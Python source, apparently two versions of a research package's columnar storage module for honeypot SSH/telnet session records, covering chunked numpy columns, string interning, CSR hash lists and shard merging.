        self._client_ip.extend(int(x) for x in client_ip)
        self._client_asn.extend(int(x) for x in client_asn)
        self._client_country.extend(int(x) for x in client_country_id)
        self._n_attempts.extend(int(x) for x in n_attempts)
        self._login_success.extend(bool(x) for x in login_success)
        self._script_id.extend(int(x) for x in script_id)
        self._password_id.extend(int(x) for x in password_id)
        self._username_id.extend(int(x) for x in username_id)
        self._close_reason.extend(int(x) for x in close_reason_id)
        self._version_id.extend(int(x) for x in version_id)
        self._hash_ids.extend(hash_ids)
        _metric_inc("store.sessions_appended", n)
        _metric_inc("store.blocks_appended")

    # -- shard / merge support -------------------------------------------------

    def fork_tables(self) -> "StoreBuilder":
        """A new empty builder sharing this builder's interned tables.

        The copy starts with identical table contents (so every id interned
        here resolves to the same string there) but accumulates its own
        rows and its own new table entries.  This is the shard-generation
        primitive: workers fork the base tables, emit rows, and the parent
        :meth:`adopt`\\ s the results back in a deterministic order.
        """
        out = StoreBuilder()
        out.honeypots = self.honeypots.copy()
        out.countries = self.countries.copy()
        out.passwords = self.passwords.copy()
        out.usernames = self.usernames.copy()
        out.hashes = self.hashes.copy()
        out.versions = self.versions.copy()
        out.scripts = list(self.scripts)
        out._script_ids = dict(self._script_ids)
        return out

    def _table_remaps(self, other: "StoreBuilder"):
        """Id-remap lists from ``other``'s tables into this builder's.

        Shared prefixes (e.g. after :meth:`fork_tables`) remap to
        themselves; new entries are interned here, in ``other``'s order.
        """
        return {
            "honeypot": [self.honeypots.intern(v) for v in other.honeypots.values()],
            "country": [self.countries.intern(v) for v in other.countries.values()],
            "password": [self.passwords.intern(v) for v in other.passwords.values()],
            "username": [self.usernames.intern(v) for v in other.usernames.values()],
            "hash": [self.hashes.intern(v) for v in other.hashes.values()],
            "version": [self.versions.intern(v) for v in other.versions.values()],
            "script": [self.intern_script(s.commands, s.uris) for s in other.scripts],
        }

    def adopt(self, other: "StoreBuilder") -> None:
        """Append all of ``other``'s rows, remapping its interned ids.

        ``other`` may share a table prefix with this builder (the
        fork/adopt shard path, where the remap is mostly the identity) or
        be entirely unrelated (merging independently collected stores).
        """
        t0 = time.perf_counter()
        remap = self._table_remaps(other)
        hp, co = remap["honeypot"], remap["country"]
        pw, un, ve, sc = (remap["password"], remap["username"],
                          remap["version"], remap["script"])
        ha = remap["hash"]
        self._start.extend(other._start)
        self._duration.extend(other._duration)
        self._honeypot.extend(hp[i] for i in other._honeypot)
        self._protocol.extend(other._protocol)
        self._client_ip.extend(other._client_ip)
        self._client_asn.extend(other._client_asn)
        self._client_country.extend(co[i] for i in other._client_country)
        self._n_attempts.extend(other._n_attempts)
        self._login_success.extend(other._login_success)
        self._script_id.extend(sc[i] if i >= 0 else -1 for i in other._script_id)
        self._password_id.extend(pw[i] if i >= 0 else -1 for i in other._password_id)
        self._username_id.extend(un[i] if i >= 0 else -1 for i in other._username_id)
        self._close_reason.extend(other._close_reason)
        self._version_id.extend(ve[i] if i >= 0 else -1 for i in other._version_id)
        self._hash_ids.extend(
            tuple(ha[h] for h in ids) for ids in other._hash_ids
        )
        metrics = get_metrics()
        metrics.inc("store.adopts")
        metrics.inc("store.sessions_adopted", len(other._start))
        metrics.observe("store.adopt_seconds", time.perf_counter() - t0)

    def adopt_store(self, store: "SessionStore") -> None:
        """Append a frozen store's rows, remapping its interned ids."""
        other = StoreBuilder()
        other.honeypots = store.honeypots
        other.countries = store.countries
        other.passwords = store.passwords
        other.usernames = store.usernames
        other.hashes = store.hashes
        other.versions = store.versions
        other.scripts = list(store.scripts)
        other._start = store.start_time.tolist()
        other._duration = store.duration.tolist()
        other._honeypot = store.honeypot.tolist()
        other._protocol = store.protocol.tolist()
        other._client_ip = store.client_ip.tolist()
        other._client_asn = store.client_asn.tolist()
        other._client_country = store.client_country.tolist()
        other._n_attempts = store.n_attempts.tolist()
        other._login_success = store.login_success.tolist()
        other._script_id = store.script_id.tolist()
        other._password_id = store.password_id.tolist()
        other._username_id = store.username_id.tolist()
        other._close_reason = store.close_reason.tolist()
        other._version_id = store.version_id.tolist()
        other._hash_ids = list(store.hash_ids)
        self.adopt(other)

    def build(self) -> "SessionStore":
        """Freeze the accumulated rows into an immutable columnar store."""
        n_commands = np.zeros(len(self._start), dtype=np.uint16)
        has_uri = np.zeros(len(self._start), dtype=bool)
        script_id = np.asarray(self._script_id, dtype=np.int32) if self._start else np.zeros(0, np.int32)
        if len(self.scripts):
            script_lengths = np.array(
                [min(len(s.commands), 65535) for s in self.scripts], dtype=np.uint16
            )
            script_has_uri = np.array([s.has_uri for s in self.scripts], dtype=bool)
            mask = script_id >= 0
            n_commands[mask] = script_lengths[script_id[mask]]
            has_uri[mask] = script_has_uri[script_id[mask]]
        return SessionStore(
            start_time=np.asarray(self._start, dtype=np.float64),
            duration=np.asarray(self._duration, dtype=np.float32),
            honeypot=np.asarray(self._honeypot, dtype=np.int32),
            protocol=np.asarray(self._protocol, dtype=np.uint8),
            client_ip=np.asarray(self._client_ip, dtype=np.uint32),
            client_asn=np.asarray(self._client_asn, dtype=np.int32),
            client_country=np.asarray(self._client_country, dtype=np.int32),
            n_attempts=np.asarray(self._n_attempts, dtype=np.uint16),
            login_success=np.asarray(self._login_success, dtype=bool),
            script_id=script_id,
            n_commands=n_commands,
            has_uri=has_uri,
            password_id=np.asarray(self._password_id, dtype=np.int32),
            username_id=np.asarray(self._username_id, dtype=np.int32),
            close_reason=np.asarray(self._close_reason, dtype=np.uint8),
            version_id=np.asarray(self._version_id, dtype=np.int32),
            hash_ids=self._hash_ids,
            honeypots=self.honeypots,
            countries=self.countries,
            passwords=self.passwords,
            usernames=self.usernames,
            hashes=self.hashes,
            versions=self.versions,
            scripts=list(self.scripts),
        )


class SessionStore:
    """Immutable columnar store of session records.

    All column attributes are numpy arrays of identical length; side tables
    resolve interned ids back to strings / scripts.  Row-shaped access is
    available through :meth:`record` and iteration, but analyses should use
    the columns.
    """

    def __init__(
        self,
        start_time: np.ndarray,
        duration: np.ndarray,
        honeypot: np.ndarray,
        protocol: np.ndarray,
        client_ip: np.ndarray,
        client_asn: np.ndarray,
        client_country: np.ndarray,
        n_attempts: np.ndarray,
        login_success: np.ndarray,
        script_id: np.ndarray,
        n_commands: np.ndarray,
        has_uri: np.ndarray,
        password_id: np.ndarray,
        username_id: np.ndarray,
        close_reason: np.ndarray,
        version_id: np.ndarray,
        hash_ids: List[Tuple[int, ...]],
        honeypots: StringTable,
        countries: StringTable,
        passwords: StringTable,
        usernames: StringTable,
        hashes: StringTable,
        versions: StringTable,
        scripts: List[CommandScript],
    ):
        self.start_time = start_time
        self.duration = duration
        self.honeypot = honeypot
        self.protocol = protocol
        self.client_ip = client_ip
        self.client_asn = client_asn
        self.client_country = client_country
        self.n_attempts = n_attempts
        self.login_success = login_success
        self.script_id = script_id
        self.n_commands = n_commands
        self.has_uri = has_uri
        self.password_id = password_id
        self.username_id = username_id
        self.close_reason = close_reason
        self.version_id = version_id
        self.hash_ids = hash_ids
        self.honeypots = honeypots
        self.countries = countries
        self.passwords = passwords
        self.usernames = usernames
        self.hashes = hashes
        self.versions = versions
        self.scripts = scripts
        self._day: Optional[np.ndarray] = None

    def __len__(self) -> int:
        return len(self.start_time)

    @property
    def day(self) -> np.ndarray:
        """Zero-based observation-day index of each session (cached)."""
        if self._day is None:
            self._day = (self.start_time // SECONDS_PER_DAY).astype(np.int32)
        return self._day

    @property
    def n_honeypots(self) -> int:
        return len(self.honeypots)

    @property
    def n_days(self) -> int:
        return int(self.day.max()) + 1 if len(self) else 0

    # -- merging ---------------------------------------------------------------

    @classmethod
    def merge(cls, stores: Sequence["SessionStore"]) -> "SessionStore":
        """Concatenate frozen stores into one, re-interning side-table ids.

        Rows keep their per-store order and stores are concatenated in the
        order given, so a deterministic shard order yields a deterministic
        merged store regardless of how the shards were produced.  Interned
        ids are remapped table-by-table: shared prefixes (shards forked
        from one base builder) map to themselves, new entries are appended
        in first-seen order.
        """
        builder = StoreBuilder()
        with get_metrics().span("store/merge"):
            for store in stores:
                builder.adopt_store(store)
            return builder.build()

    # -- row access ------------------------------------------------------------

    def record(self, index: int) -> SessionRecord:
        """Materialise row ``index`` as a :class:`SessionRecord`."""
        script_id = int(self.script_id[index])
        commands: Tuple[str, ...] = ()
        uris: Tuple[str, ...] = ()
        if script_id >= 0:
            script = self.scripts[script_id]
            commands, uris = script.commands, script.uris
        password_id = int(self.password_id[index])
        username_id = int(self.username_id[index])
        version_id = int(self.version_id[index])
        return SessionRecord(
            start_time=float(self.start_time[index]),
            duration=float(self.duration[index]),
            honeypot_id=self.honeypots.value_of(int(self.honeypot[index])),
            protocol=_PROTOCOL_NAMES[int(self.protocol[index])],
            client_ip=int(self.client_ip[index]),
            client_asn=int(self.client_asn[index]),
            client_country=self.countries.value_of(int(self.client_country[index])),
            n_login_attempts=int(self.n_attempts[index]),
            login_success=bool(self.login_success[index]),
            username=self.usernames.value_of(username_id) if username_id >= 0 else "",
            password=self.passwords.value_of(password_id) if password_id >= 0 else "",
            commands=commands,
            uris=uris,
            file_hashes=tuple(
                self.hashes.value_of(h) for h in self.hash_ids[index]
            ),
            close_reason=_CLOSE_REASONS[int(self.close_reason[index])],
            client_version=(
                self.versions.value_of(version_id) if version_id >= 0 else ""
            ),
        )

    def __iter__(self) -> Iterator[SessionRecord]:
        for i in range(len(self)):
            yield self.record(i)

    # -- convenience -------------------------------------------------------------

    def filter(self, mask: np.ndarray) -> "SessionStore":
        """A new store containing only the sessions where ``mask`` is True.

        Side tables (interned strings, scripts) are shared with the parent
        store, so ids remain comparable across the two stores.
        """
        if len(mask) != len(self):
            raise ValueError("mask length must match store length")
        idx = np.nonzero(mask)[0]
        return SessionStore(
            start_time=self.start_time[idx],
            duration=self.duration[idx],
            honeypot=self.honeypot[idx],
            protocol=self.protocol[idx],
            client_ip=self.client_ip[idx],
            client_asn=self.client_asn[idx],
            client_country=self.client_country[idx],
            n_attempts=self.n_attempts[idx],
            login_success=self.login_success[idx],
            script_id=self.script_id[idx],
            n_commands=self.n_commands[idx],
            has_uri=self.has_uri[idx],
            password_id=self.password_id[idx],
            username_id=self.username_id[idx],
            close_reason=self.close_reason[idx],
            version_id=self.version_id[idx],
            hash_ids=[self.hash_ids[int(i)] for i in idx],
            honeypots=self.honeypots,
            countries=self.countries,
            passwords=self.passwords,
            usernames=self.usernames,
            hashes=self.hashes,
            versions=self.versions,
            scripts=self.scripts,
        )

    def honeypot_name(self, honeypot_index: int) -> str:
        return self.honeypots.value_of(honeypot_index)

    def hash_name(self, hash_id: int) -> str:
        return self.hashes.value_of(hash_id)

    @property
    def is_ssh(self) -> np.ndarray:
        return self.protocol == PROTOCOL_SSH

    @property
    def is_telnet(self) -> np.ndarray:
        return self.protocol == PROTOCOL_TELNET
