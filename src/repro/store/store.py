"""Columnar session store and its builder.

The builder is columnar end-to-end: every fixed-dtype column accumulates
fixed-size numpy chunks (:class:`_ColumnChunks`), block appends adopt the
caller's arrays with zero per-element Python work, and ``build()`` is a
single concatenate per column.  Variable-length per-session hash lists are
CSR-shaped (values + offsets) all the way through — in the builder, in the
frozen :class:`SessionStore` (:class:`HashIdColumn`) and on disk
(``repro.store.npz``), so nothing ever round-trips through per-row Python
tuples on the hot path.
"""

from __future__ import annotations

import hashlib
from typing import Dict, Iterator, List, Optional, Sequence, Tuple, Union

import numpy as np

from repro.honeypot.session import CloseReason
from repro.obs import get_metrics, inc as _metric_inc, stopwatch
from repro.store.interning import StringTable
from repro.store.records import STORE_COLUMN_DTYPES, CommandScript, SessionRecord

SECONDS_PER_DAY = 86_400

PROTOCOL_SSH = 0
PROTOCOL_TELNET = 1
_PROTOCOL_NAMES = ("ssh", "telnet")

_CLOSE_REASONS = tuple(reason.value for reason in CloseReason)
_CLOSE_REASON_IDS = {name: i for i, name in enumerate(_CLOSE_REASONS)}

#: Rows per scalar-append chunk.  Large enough that chunk bookkeeping is
#: invisible next to the per-row work, small enough that a freshly sealed
#: partial chunk wastes little memory.
CHUNK_ROWS = 65_536

#: Blocks at least this long are adopted as chunks of their own (zero
#: copy); shorter blocks are copied into the open chunk so thousands of
#: small day-blocks don't degenerate into thousands of tiny chunks.
ADOPT_ROWS = 4_096


class _ColumnChunks:
    """Fixed-dtype column accumulator: a list of sealed numpy chunks.

    Scalar appends fill a preallocated fixed-size chunk; array extends seal
    the open chunk and adopt the (dtype-coerced) array as a chunk of its
    own, so a block append costs one vectorised conversion at most and no
    per-element Python work.  ``concatenate`` closes the column into one
    contiguous array.
    """

    __slots__ = ("dtype", "_chunks", "_cur", "_fill")

    def __init__(self, dtype) -> None:
        self.dtype = np.dtype(dtype)
        self._chunks: List[np.ndarray] = []
        self._cur: Optional[np.ndarray] = None
        self._fill = 0

    def append(self, value) -> None:
        cur = self._cur
        if cur is None:
            cur = self._cur = np.empty(CHUNK_ROWS, self.dtype)
            self._fill = 0
        cur[self._fill] = value
        self._fill += 1
        if self._fill == CHUNK_ROWS:
            self._chunks.append(cur)
            self._cur = None

    def _seal(self) -> None:
        """Close the open scalar chunk (if any) at its current fill."""
        if self._cur is not None:
            self._chunks.append(self._cur[: self._fill].copy())
            self._cur = None

    def extend(self, values) -> None:
        """Append a whole array (or sequence) of values.

        The hot path is one vectorised dtype coercion plus one slice
        assignment into the open fixed-size chunk, so thousands of small
        day-blocks cost one numpy op each instead of one chunk each.
        Blocks that don't fit the open chunk — including anything of
        :data:`ADOPT_ROWS` or more — seal it and are adopted as chunks of
        their own; the caller hands over ownership, so an ndarray of the
        column dtype is taken without a copy.
        """
        arr = np.asarray(values, dtype=self.dtype)
        if arr.ndim != 1:
            raise ValueError("column blocks must be one-dimensional")
        n = arr.shape[0]
        if not n:
            return
        cur = self._cur
        fill = self._fill
        if cur is not None and n < ADOPT_ROWS and fill + n <= CHUNK_ROWS:
            cur[fill:fill + n] = arr
            self._fill = fill + n
            return
        if cur is None and n < ADOPT_ROWS:
            cur = self._cur = np.empty(CHUNK_ROWS, self.dtype)
            cur[:n] = arr
            self._fill = n
            return
        self._seal()
        self._chunks.append(arr)

    def __len__(self) -> int:
        return sum(len(c) for c in self._chunks) + self._fill

    def concatenate(self) -> np.ndarray:
        self._seal()
        if not self._chunks:
            return np.zeros(0, self.dtype)
        if len(self._chunks) == 1:
            return self._chunks[0]
        out = np.concatenate(self._chunks)
        # Keep the column usable (and cheap) after a freeze: future
        # appends extend the already-concatenated single chunk.
        self._chunks = [out]
        return out


class HashIdColumn:
    """CSR (values + offsets) view of the per-session hash-id lists.

    Row ``i`` is ``values[offsets[i]:offsets[i+1]]``; indexing returns the
    row as a tuple (the historical list-of-tuples interface), while the
    vectorised accessors (``values``, ``offsets``, ``lengths``, ``take``,
    ``remap``) are what persistence, filtering and the analyses use.
    """

    __slots__ = ("values", "offsets", "_lengths")

    def __init__(self, values: np.ndarray, offsets: np.ndarray):
        self.values = np.asarray(values, dtype=np.int64)
        self.offsets = np.asarray(offsets, dtype=np.int64)
        self._lengths: Optional[np.ndarray] = None

    @classmethod
    def from_lists(cls, lists: Sequence[Tuple[int, ...]]) -> "HashIdColumn":
        n = len(lists)
        lengths = np.fromiter((len(t) for t in lists), dtype=np.int64, count=n)
        offsets = np.zeros(n + 1, dtype=np.int64)
        np.cumsum(lengths, out=offsets[1:])
        values = np.fromiter(
            (h for t in lists for h in t), dtype=np.int64, count=int(offsets[-1])
        )
        return cls(values, offsets)

    @classmethod
    def empty(cls, n_rows: int = 0) -> "HashIdColumn":
        return cls(np.zeros(0, np.int64), np.zeros(n_rows + 1, np.int64))

    def __len__(self) -> int:
        return len(self.offsets) - 1

    @property
    def lengths(self) -> np.ndarray:
        if self._lengths is None:
            self._lengths = np.diff(self.offsets)
        return self._lengths

    def __getitem__(self, index) -> Tuple[int, ...]:
        if isinstance(index, slice):
            raise TypeError("HashIdColumn does not support slicing; use take()")
        index = int(index)
        if index < 0:
            index += len(self)
        row = self.values[self.offsets[index]:self.offsets[index + 1]]
        return tuple(int(h) for h in row)

    def __iter__(self) -> Iterator[Tuple[int, ...]]:
        for i in range(len(self)):
            yield self[i]

    def __eq__(self, other) -> bool:
        if isinstance(other, HashIdColumn):
            return bool(
                np.array_equal(self.values, other.values)
                and np.array_equal(self.offsets, other.offsets)
            )
        if isinstance(other, (list, tuple)):
            return len(self) == len(other) and all(
                self[i] == tuple(other[i]) for i in range(len(self))
            )
        return NotImplemented

    __hash__ = None  # type: ignore[assignment]

    def take(self, idx: np.ndarray) -> "HashIdColumn":
        """Vectorised row gather (the CSR analogue of fancy indexing)."""
        idx = np.asarray(idx, dtype=np.int64)
        lens = self.lengths[idx]
        offsets = np.zeros(len(idx) + 1, dtype=np.int64)
        np.cumsum(lens, out=offsets[1:])
        total = int(offsets[-1])
        if total == 0:
            return HashIdColumn(np.zeros(0, np.int64), offsets)
        starts = self.offsets[idx]
        flat = np.repeat(starts - offsets[:-1], lens) + np.arange(total)
        return HashIdColumn(self.values[flat], offsets)

    def remap(self, mapping: np.ndarray) -> "HashIdColumn":
        """A new column with every value replaced by ``mapping[value]``."""
        if not len(self.values):
            return HashIdColumn(self.values, self.offsets)
        return HashIdColumn(
            np.take(np.asarray(mapping, dtype=np.int64), self.values),
            self.offsets,
        )


class HashBlockCsr:
    """Pre-flattened per-row hash ids: CSR ``values`` + per-row ``lengths``.

    The block-emission path accumulates hash ids in this shape so a merged
    block append is two array extends instead of a per-row tuple walk.
    """

    __slots__ = ("values", "lengths")

    def __init__(self, values: np.ndarray, lengths: np.ndarray):
        self.values = np.asarray(values, dtype=np.int64)
        self.lengths = np.asarray(lengths, dtype=np.int64)


#: Per-row hash ids accepted by the block-append path: ``None`` (no row has
#: hashes), one tuple (every row shares it), a per-row sequence, or a
#: pre-flattened :class:`HashBlockCsr`.
HashIdsArg = Union[
    None, Tuple[int, ...], Sequence[Tuple[int, ...]], HashBlockCsr
]

_ID_COLUMNS_WITH_SENTINEL = {
    "script_id": "script",
    "password_id": "password",
    "username_id": "username",
    "version_id": "version",
}


def _remap_ids(remap: Union[Sequence[int], np.ndarray], ids: np.ndarray,
               sentinel: bool) -> np.ndarray:
    """Vectorised id remap; with ``sentinel`` the value -1 maps to itself."""
    table = np.asarray(remap, dtype=np.int32)
    if sentinel:
        # -1 indexes the appended trailing sentinel (negative fancy index).
        table = np.concatenate((table, np.array([-1], dtype=np.int32)))
    if not len(ids):
        return np.zeros(0, np.int32)
    return table[np.asarray(ids, dtype=np.int64)]


class StoreBuilder:
    """Accumulates session records, then freezes them into a SessionStore."""

    def __init__(self) -> None:
        self.honeypots = StringTable()
        self.countries = StringTable()
        self.passwords = StringTable()
        self.usernames = StringTable()
        self.hashes = StringTable()
        self.versions = StringTable()
        self.scripts: List[CommandScript] = []
        self._script_ids: dict = {}
        # Rolling script-list digest + fork marks, mirroring StringTable's
        # prefix-mark machinery so script remaps get the same adopt fast
        # path the string tables do.
        self._scripts_chain: bytes = b"\x00" * 16
        self._scripts_marks: Dict[int, bytes] = {}
        self._scripts_fork_mark: Optional[Tuple[int, bytes]] = None
        # Incrementally extended script-derived columns; build() only
        # computes entries for scripts interned since the last build/fork.
        self._script_cols: Tuple[int, np.ndarray, np.ndarray] = (
            0, np.zeros(0, np.uint16), np.zeros(0, bool)
        )

        self._cols: Dict[str, _ColumnChunks] = {
            name: _ColumnChunks(dtype)
            for name, dtype in STORE_COLUMN_DTYPES.items()
        }
        self._hash_values = _ColumnChunks(np.int64)
        self._hash_lengths = _ColumnChunks(np.int64)
        self._n_rows = 0

    def __len__(self) -> int:
        return self._n_rows

    # -- interning helpers ---------------------------------------------------

    def intern_script(self, commands: Sequence[str], uris: Sequence[str] = ()) -> int:
        """Intern a command script; returns its id (-1 for empty)."""
        commands = tuple(commands)
        uris = tuple(uris)
        if not commands:
            return -1
        key = (commands, uris)
        existing = self._script_ids.get(key)
        if existing is not None:
            return existing
        script_id = len(self.scripts)
        self.scripts.append(CommandScript(commands=commands, uris=uris))
        self._script_ids[key] = script_id
        digest = hashlib.blake2b(self._scripts_chain, digest_size=16)
        for command in commands:
            digest.update(command.encode("utf-8", "surrogatepass"))
            digest.update(b"\x00")
        digest.update(b"\x01")
        for uri in uris:
            digest.update(uri.encode("utf-8", "surrogatepass"))
            digest.update(b"\x00")
        self._scripts_chain = digest.digest()
        return script_id

    # -- append paths ----------------------------------------------------------

    def append(self, record: SessionRecord) -> int:
        """Append a row-shaped record. Returns its index."""
        script_id = self.intern_script(record.commands, record.uris)
        return self.append_interned(
            start_time=record.start_time,
            duration=record.duration,
            honeypot_id=self.honeypots.intern(record.honeypot_id),
            protocol=(
                PROTOCOL_SSH if record.protocol == "ssh" else PROTOCOL_TELNET
            ),
            client_ip=record.client_ip,
            client_asn=record.client_asn,
            client_country_id=self.countries.intern(record.client_country),
            n_attempts=record.n_login_attempts,
            login_success=record.login_success,
            script_id=script_id,
            password_id=(
                self.passwords.intern(record.password) if record.password else -1
            ),
            username_id=(
                self.usernames.intern(record.username) if record.username else -1
            ),
            hash_ids=tuple(self.hashes.intern(h) for h in record.file_hashes),
            close_reason_id=_CLOSE_REASON_IDS.get(record.close_reason, 0),
            version_id=(
                self.versions.intern(record.client_version)
                if record.client_version
                else -1
            ),
        )

    def append_interned(
        self,
        start_time: float,
        duration: float,
        honeypot_id: int,
        protocol: int,
        client_ip: int,
        client_asn: int,
        client_country_id: int,
        n_attempts: int,
        login_success: bool,
        script_id: int = -1,
        password_id: int = -1,
        username_id: int = -1,
        hash_ids: Tuple[int, ...] = (),
        close_reason_id: int = 0,
        version_id: int = -1,
    ) -> int:
        """Fast path for bulk generation: all ids pre-interned.

        Scalars fill the current per-column chunk directly.
        """
        cols = self._cols
        cols["start_time"].append(start_time)
        cols["duration"].append(duration)
        cols["honeypot"].append(honeypot_id)
        cols["protocol"].append(protocol)
        cols["client_ip"].append(client_ip)
        cols["client_asn"].append(client_asn)
        cols["client_country"].append(client_country_id)
        cols["n_attempts"].append(n_attempts)
        cols["login_success"].append(login_success)
        cols["script_id"].append(script_id)
        cols["password_id"].append(password_id)
        cols["username_id"].append(username_id)
        cols["close_reason"].append(close_reason_id)
        cols["version_id"].append(version_id)
        self._hash_lengths.append(len(hash_ids))
        for h in hash_ids:
            self._hash_values.append(h)
        self._n_rows += 1
        _metric_inc("store.sessions_appended")
        return self._n_rows - 1

    def append_block(
        self,
        start_time: Sequence[float],
        duration: Sequence[float],
        honeypot_id: Sequence[int],
        protocol: Sequence[int],
        client_ip: Sequence[int],
        client_asn: Sequence[int],
        client_country_id: Sequence[int],
        n_attempts: Sequence[int],
        login_success: Sequence[bool],
        script_id: Sequence[int],
        password_id: Sequence[int],
        username_id: Sequence[int],
        hash_ids: HashIdsArg,
        close_reason_id: Sequence[int],
        version_id: Sequence[int],
    ) -> None:
        """Bulk append: all sequences must share one length.

        This is the generator's hot path — ndarray inputs are adopted as
        column chunks after a single vectorised dtype coercion, with zero
        per-element Python work.  ``hash_ids`` is ``None`` when no row in
        the block carries hashes, a single tuple shared by every row
        (campaign blocks), or a per-row sequence of tuples.
        """
        n = len(start_time)
        for seq in (duration, honeypot_id, protocol, client_ip, client_asn,
                    client_country_id, n_attempts, login_success, script_id,
                    password_id, username_id, close_reason_id, version_id):
            if len(seq) != n:
                raise ValueError("append_block sequences must share one length")
        cols = self._cols
        cols["start_time"].extend(start_time)
        cols["duration"].extend(duration)
        cols["honeypot"].extend(honeypot_id)
        cols["protocol"].extend(protocol)
        cols["client_ip"].extend(client_ip)
        cols["client_asn"].extend(client_asn)
        cols["client_country"].extend(client_country_id)
        cols["n_attempts"].extend(n_attempts)
        cols["login_success"].extend(login_success)
        cols["script_id"].extend(script_id)
        cols["password_id"].extend(password_id)
        cols["username_id"].extend(username_id)
        cols["close_reason"].extend(close_reason_id)
        cols["version_id"].extend(version_id)
        self._append_block_hashes(hash_ids, n)
        self._n_rows += n
        _metric_inc("store.sessions_appended", n)
        _metric_inc("store.blocks_appended")

    def _append_block_hashes(self, hash_ids: HashIdsArg, n: int) -> None:
        if hash_ids is None:
            self._hash_lengths.extend(np.zeros(n, np.int64))
            return
        if isinstance(hash_ids, HashBlockCsr):
            if len(hash_ids.lengths) != n:
                raise ValueError("append_block sequences must share one length")
            self._hash_lengths.extend(hash_ids.lengths)
            if len(hash_ids.values):
                self._hash_values.extend(hash_ids.values)
            return
        if isinstance(hash_ids, tuple):
            # One tuple shared by every row of the block.
            k = len(hash_ids)
            self._hash_lengths.extend(np.full(n, k, np.int64))
            if k:
                self._hash_values.extend(
                    np.tile(np.asarray(hash_ids, np.int64), n)
                )
            return
        if len(hash_ids) != n:
            raise ValueError("append_block sequences must share one length")
        if not any(hash_ids):
            self._hash_lengths.extend(np.zeros(n, np.int64))
            return
        lengths = np.fromiter((len(t) for t in hash_ids), np.int64, count=n)
        self._hash_lengths.extend(lengths)
        self._hash_values.extend(
            np.fromiter(
                (h for t in hash_ids for h in t),
                np.int64,
                count=int(lengths.sum()),
            )
        )

    # -- shard / merge support -------------------------------------------------

    def fork_tables(self) -> "StoreBuilder":
        """A new empty builder sharing this builder's interned tables.

        The copy starts with identical table contents (so every id interned
        here resolves to the same string there) but accumulates its own
        rows and its own new table entries.  This is the shard-generation
        primitive: workers fork the base tables, emit rows, and the parent
        :meth:`adopt`\\ s the results back in a deterministic order.
        """
        out = StoreBuilder()
        out.honeypots = self.honeypots.copy()
        out.countries = self.countries.copy()
        out.passwords = self.passwords.copy()
        out.usernames = self.usernames.copy()
        out.hashes = self.hashes.copy()
        out.versions = self.versions.copy()
        out.scripts = list(self.scripts)
        out._script_ids = dict(self._script_ids)
        out._scripts_chain = self._scripts_chain
        out._scripts_fork_mark = (len(self.scripts), self._scripts_chain)
        self._scripts_marks[len(self.scripts)] = self._scripts_chain
        out._scripts_marks = dict(self._scripts_marks)
        out._script_cols = self._script_cols
        return out

    def _scripts_shared_prefix(self, other) -> int:
        """Provably shared script-list prefix length with ``other`` (0 if unknown).

        Mirrors :meth:`StringTable.shares_prefix`: ``other`` (a builder, or
        a frozen store built by one) carries the fork mark of the script
        list it started from; if we hold a trusted chain snapshot at that
        length, the first ``length`` scripts are identical on both sides.
        """
        mark = getattr(other, "_scripts_fork_mark", None)
        if mark is None:
            return 0
        length, chain = mark
        if length > len(self.scripts):
            return 0
        if self._scripts_marks.get(length) == chain:
            return length
        if len(self.scripts) == length and self._scripts_chain == chain:
            return length
        return 0

    @staticmethod
    def _prefix_remap(shared: int, n_other: int, intern_tail) -> Tuple[np.ndarray, bool]:
        """(remap array, is_identity) given a proven shared prefix length.

        ``intern_tail`` interns the entries past the shared prefix and
        returns their ids.  The remap is the identity when every entry maps
        to its own index — the overwhelmingly common shard-merge case,
        where the whole ``np.take`` gather can be skipped.
        """
        if shared == n_other:
            return np.arange(n_other, dtype=np.int32), True
        tail = np.asarray(intern_tail(shared), dtype=np.int32)
        remap = np.concatenate((np.arange(shared, dtype=np.int32), tail))
        is_identity = bool(
            np.array_equal(tail, np.arange(shared, n_other, dtype=np.int32))
        )
        return remap, is_identity

    def _table_remaps(self, other) -> Dict[str, Tuple[np.ndarray, bool]]:
        """Id remaps from ``other``'s tables into this builder's.

        ``other`` is a builder or a frozen store (both expose the same
        table attributes).  Shared prefixes (e.g. after
        :meth:`fork_tables`) remap to themselves; new entries are interned
        here, in ``other``'s order.  Each value is ``(remap_array,
        is_identity)`` — prefix marks prove shared prefixes in O(1), so
        the typical shard adopt never re-interns the base tables.
        """
        out: Dict[str, Tuple[np.ndarray, bool]] = {}
        pairs = (
            ("honeypot", self.honeypots, other.honeypots),
            ("country", self.countries, other.countries),
            ("password", self.passwords, other.passwords),
            ("username", self.usernames, other.usernames),
            ("hash", self.hashes, other.hashes),
            ("version", self.versions, other.versions),
        )
        for name, mine, theirs in pairs:
            def intern_tail(shared, mine=mine, theirs=theirs):
                return [mine.intern(v) for v in theirs.values()[shared:]]

            out[name] = self._prefix_remap(
                mine.shares_prefix(theirs), len(theirs), intern_tail
            )
        scripts = other.scripts
        out["script"] = self._prefix_remap(
            self._scripts_shared_prefix(other),
            len(scripts),
            lambda shared: [
                self.intern_script(s.commands, s.uris) for s in scripts[shared:]
            ],
        )
        return out

    def _column_arrays(self) -> Dict[str, np.ndarray]:
        """The accumulated fixed-dtype columns, concatenated."""
        return {name: col.concatenate() for name, col in self._cols.items()}

    def _hash_arrays(self) -> Tuple[np.ndarray, np.ndarray]:
        """(values, lengths) of the accumulated CSR hash column."""
        return self._hash_values.concatenate(), self._hash_lengths.concatenate()

    def _adopt_arrays(
        self,
        remap: Dict[str, Tuple[np.ndarray, bool]],
        columns: Dict[str, np.ndarray],
        hash_values: np.ndarray,
        hash_lengths: np.ndarray,
    ) -> None:
        """Append whole remapped columns (the vectorised adopt core).

        Columns whose remap is the identity are adopted as-is — with
        prefix-marked tables (the shard-merge shape) that is every column,
        so the adopt degenerates to plain chunk extends.
        """
        n = len(columns["start_time"])
        cols = self._cols
        _REMAP_KEYS = {"honeypot": "honeypot", "client_country": "country"}
        all_identity = True
        for name in STORE_COLUMN_DTYPES:
            if name in _REMAP_KEYS:
                table, identity = remap[_REMAP_KEYS[name]]
                sentinel = False
            elif name in _ID_COLUMNS_WITH_SENTINEL:
                table, identity = remap[_ID_COLUMNS_WITH_SENTINEL[name]]
                sentinel = True
            else:
                cols[name].extend(columns[name])
                continue
            if identity:
                cols[name].extend(columns[name])
            else:
                all_identity = False
                cols[name].extend(_remap_ids(table, columns[name], sentinel))
        self._hash_lengths.extend(hash_lengths)
        if len(hash_values):
            hash_table, hash_identity = remap["hash"]
            if hash_identity:
                self._hash_values.extend(hash_values)
            else:
                all_identity = False
                self._hash_values.extend(
                    np.take(hash_table.astype(np.int64), hash_values)
                )
        self._n_rows += n
